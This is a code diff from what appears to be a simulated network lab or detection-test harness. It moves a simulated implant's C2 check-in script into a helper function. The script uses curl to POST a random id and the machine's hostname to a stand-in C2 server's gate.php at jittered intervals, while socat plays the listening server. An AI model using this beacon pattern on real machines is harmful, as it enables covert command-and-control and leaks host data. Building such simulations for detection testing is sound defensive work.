@@ -454,14 +454,21 @@ def _http_post_check_ins(node: Node, work: Path) -> None:
     gate = node.start("c2", "socat", f"TCP-LISTEN:80,bind={C2_IP},fork,reuseaddr", f"EXEC:sh {handler}", **QUIET)
     rng = random.Random(17)
     pauses = [12.0 * rng.uniform(0.7, 1.3) for _ in range(4)]
-    implant = "".join(f'curl -s -m 5 -o /dev/null -d "id=$id&host=$(hostname)&seq={i}" http://{C2_NAME}/gate.php\n'
-                      f"sleep {pause:.2f}\n" for i, pause in enumerate([*pauses, 0.0]))
     try:
         time.sleep(1.0)
-        node.run("implant", "sh", "-c", "id=$(head -c 6 /dev/urandom | od -An -tx1 | tr -d ' \\n')\n" + implant,
-                 check=True, capture_output=True, timeout=30 + sum(pauses))
+        node.run("implant", "sh", "-c", check_in_script(C2_NAME, pauses), check=True, capture_output=True,
+                 timeout=30 + sum(pauses))
     finally:
         _stop(gate, dns)
+
+
+def check_in_script(server: str, pauses: list[float]) -> str:
+    """The implant's shell script: a POST to ``server``'s gate, then each pause, then the last POST. It
+    stops at the first POST that fails (a name the pod's resolver did not answer, a gate not listening),
+    so a check-in that never left is the scenario's error, never one more quiet miss."""
+    posts = "".join(f'curl -s -m 5 -o /dev/null -d "id=$id&host=$(hostname)&seq={i}" http://{server}/gate.php\n'
+                    f"sleep {pause:.2f}\n" for i, pause in enumerate([*pauses, 0.0]))
+    return "set -e\nid=$(head -c 6 /dev/urandom | od -An -tx1 | tr -d ' \\n')\n" + posts
 
 
 def _wait_for(ready: Callable[[], bool], seconds: float) -> None:
